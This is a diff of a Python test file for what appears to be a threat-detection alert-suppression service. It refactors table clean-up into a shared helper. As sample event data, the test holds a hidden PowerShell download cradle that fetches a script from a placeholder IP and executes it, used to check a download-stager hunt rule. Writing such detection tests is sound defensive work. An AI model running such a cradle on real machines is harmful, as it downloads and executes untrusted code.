@@ -37,6 +37,7 @@ from shared.suppress.token import (
     read_token,
 )
 from shared.suppress.wiring import build_suppressor, snooze_group, snooze_url
+from tests.fanout_world import clear_tables
 from tests.test_snooze import (  # noqa: F401  (fixtures)
     CRADLE_ID,
     KEY,
@@ -298,9 +299,7 @@ def test_run_once_survives_bad_rows_and_a_31_character_key(
     hunts = tmp_path / "hunts"
     hunts.mkdir()
     shutil.copy(REPO / "hunts" / "powershell-download-cradle-stager.yaml", hunts)
-    service = TableServiceClient.from_connection_string(storage_connection_string)
-    for table in service.list_tables():  # a fresh ledger: other tests ran this event too
-        service.delete_table(table.name)
+    clear_tables(storage_connection_string)  # a fresh ledger: other tests ran this event too
     now = datetime(2026, 11, 30, 10, tzinfo=UTC)
     row = process_event(1, now - timedelta(minutes=20),
                         "powershell -w hidden -c \"iwr https://198.51.100.7/a.ps1 | iex\"")
